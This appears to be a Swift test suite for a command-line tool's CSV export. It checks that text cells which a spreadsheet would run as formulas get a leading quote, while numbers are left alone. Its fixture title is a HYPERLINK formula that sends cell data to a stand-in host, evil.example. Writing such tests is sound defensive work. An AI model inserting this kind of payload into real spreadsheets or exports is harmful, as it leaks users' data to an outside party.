import ArgumentParser
import Foundation
import Testing

@testable import Provenance
@testable import prov

/// Text cells that a spreadsheet would run as formulas are neutralised in every CSV prov writes;
/// numbers are not.
@Suite("CSV formula injection")
struct CSVInjectionTests {
    static let title = #"=HYPERLINK("http://evil.example/?d="&A1,"Open")"#
    /// The title as a neutralised CSV cell: a leading ', quoted, inner quotes doubled.
    static let titleCell = #""'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")""#

    let folder: URL
    let db: String

    init() throws {
        folder = try BinaryRun.temporaryFolder()
        db = folder.appending(path: "store.sqlite").path
        let article = folder.appending(path: "ferry.md").path
        try """
        ---
        title: '\(Self.title)'
        outlet: '@Harbor Watch'
        published: 2025-03-04
        ---
        The harbour master said the night ferry will stop running in May.
        """.write(toFile: article, atomically: true, encoding: .utf8)
        let command = try #require(
            try ProvCommand.parseAsRoot(["import", "--db", db, "--quiet", article]) as? ProvCommand.Import)
        var output = ""
        var diagnostics = ""
        _ = try command.run(writingTo: &output, diagnostics: &diagnostics)
    }

    func csv(_ arguments: [String]) throws -> [Substring] {
        let command = try ProvCommand.parseAsRoot(arguments + ["--db", db])
        var output = ""
        switch command {
        case let articles as ProvCommand.Articles: try articles.run(writingTo: &output)
        case let export as ProvCommand.Export: try export.run(writingTo: &output)
        default: Issue.record("unexpected command \(arguments)")
        }
        return output.split(separator: "\n")
    }

    @Test("the articles listing neutralises the title and the outlet, not the id")
    func listing() throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        let lines = try csv(["articles", "--format", "csv"])
        #expect(lines.count == 2)
        #expect(lines[1].hasPrefix("1,2025-03-04,\"'@Harbor Watch\",1,,\(Self.titleCell),"))
    }

    @Test("the articles table export neutralises the title and the outlet")
    func tableExport() throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        let lines = try csv(["export", "--format", "csv", "--table", "articles"])
        #expect(lines[1].hasPrefix("1,"))
        #expect(lines[1].contains(",\(Self.titleCell),\"'@Harbor Watch\","))
        #expect(!lines[1].contains(",=HYPERLINK"))
    }

    @Test("the mention rows neutralise the outlet")
    func mentionRows() throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        let lines = try csv(["export", "--format", "csv"])
        #expect(lines.count >= 2)
        #expect(lines.dropFirst().allSatisfy { $0.contains(",\"'@Harbor Watch\",2025-03-04,") })
    }

    @Test("the help of commands that write CSV says so")
    func help() throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        for command: any ParsableCommand.Type in [
            ProvCommand.Export.self, ProvCommand.Claims.self, ProvCommand.Articles.self, ProvCommand.Search.self,
        ] {
            let help = ProvCommand.helpMessage(for: command, columns: 200)
            #expect(help.contains("gets a leading '"), "\(command)")
        }
    }

    @Test(
        "a text cell starting a formula gets a leading quote and is quoted",
        arguments: [
            ("=1+1", "\"'=1+1\""), ("+1", "\"'+1\""), ("-2", "\"'-2\""), ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\tx", "\"'\tx\""), ("\rx", "\"'\rx\""), ("=\"a\",b", "\"'=\"\"a\"\",b\""),
            ("plain", "plain"), ("a=b", "a=b"), ("", ""), ("x, y", "\"x, y\""),
        ])
    func textCells(_ value: String, _ cell: String) {
        #expect(CSVField.text(value) == cell)
    }

    @Test("numbers stay numbers, negative ones too; only text is neutralised")
    func numbers() {
        #expect(CSVTablesExporter.cell(.integer(-3)) == "-3")
        #expect(CSVTablesExporter.cell(.text("-3")) == "\"'-3\"")
        #expect(CSVTablesExporter.cell(.null) == "")
        var output = ""
        Listing(columns: ["n", "text"], rows: [[.int(-3), .text("-3")]]).write(.csv, to: &output)
        #expect(output == "n,text\n-3,\"'-3\"\n")
    }
}
